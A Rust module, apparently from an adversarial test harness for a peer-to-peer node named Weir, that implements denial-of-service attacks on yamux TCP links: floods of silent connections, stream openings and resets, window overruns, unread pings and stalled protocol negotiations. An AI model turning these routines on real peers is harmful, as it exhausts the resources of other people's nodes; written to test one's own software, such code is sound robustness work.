//! Attacks on links over TCP, below the protocols that Weir speaks on them.

use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use crate::stranger::{DATA, HEADER, PING, RST, SYN, Stranger, WINDOW, connect, frame, token};

type Any = Box<dyn std::error::Error + Send + Sync>;

/// Connections that each attacker holds at once.
const SILENT: usize = 200;

/// Streams, or pings, in one write.
const AT_ONCE: usize = 64;

/// The window of a stream at birth (`yamux.md`).
const BIRTH: u32 = 256 << 10;

/// Connections that say nothing, as many as the victim lets stand: each that it ends is replaced.
pub(super) async fn silent(victim: SocketAddr, local: IpAddr) -> Result<(), Any> {
    let mut held = std::collections::VecDeque::new();
    loop {
        held.push_back(connect(victim, local).await?);
        if held.len() > SILENT {
            held.pop_front();
        }
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
}

/// Streams without end.
pub(super) async fn openings(peer: Stranger) -> Result<(), Any> {
    flood(peer, |stream| frame(WINDOW, SYN, stream, 0, &[])).await
}

/// Streams that are opened and broken off.
pub(super) async fn resets(peer: Stranger) -> Result<(), Any> {
    flood(peer, |stream| [frame(WINDOW, SYN, stream, 0, &[]), frame(WINDOW, RST, stream, 0, &[])].concat())
        .await
}

/// The frames of one stream after the other, many in a write.
async fn flood(mut peer: Stranger, frames: impl Fn(u32) -> Vec<u8>) -> Result<(), Any> {
    for first in (1..).step_by(2 * AT_ONCE) {
        let many = (first..).step_by(2).take(AT_ONCE).map(&frames);
        peer.say(&many.collect::<Vec<_>>().concat()).await?;
        peer.drop_arrived()?;
    }
    Ok(())
}

/// More on a stream than its window.
pub(super) async fn overrun(mut peer: Stranger) -> Result<(), Any> {
    let first = [token(HEADER), token("/ipfs/ping/1.0.0")].concat();
    peer.say(&frame(DATA, SYN, 1, first.len() as u32, &first)).await?;
    peer.say(&frame(DATA, 0, 1, 2 * BIRTH, &[])).await?;
    peer.until_closed().await;
    Ok(())
}

/// Pings without end, whose answers it does not read.
pub(super) async fn pings(mut peer: Stranger) -> Result<(), Any> {
    loop {
        let many = (0..).take(AT_ONCE).map(|value| frame(PING, SYN, 0, value, &[]));
        peer.say(&many.collect::<Vec<_>>().concat()).await?;
    }
}

/// Streams that begin to say what they are, and never do.
pub(super) async fn nameless(mut peer: Stranger) -> Result<(), Any> {
    let begun = [token(HEADER), b"\x40/weir".to_vec()].concat();
    for stream in (1..1024).step_by(2) {
        peer.say(&frame(DATA, SYN, stream, begun.len() as u32, &begun)).await?;
    }
    peer.until_closed().await;
    Ok(())
}

/// Asks who the victim is on as many streams as it takes, and reads no answer.
pub(super) async fn unread(mut peer: Stranger) -> Result<(), Any> {
    let ask = [token(HEADER), token("/ipfs/id/1.0.0")].concat();
    for stream in (1..).step_by(2) {
        peer.say(&frame(DATA, SYN, stream, ask.len() as u32, &ask)).await?;
    }
    Ok(())
}
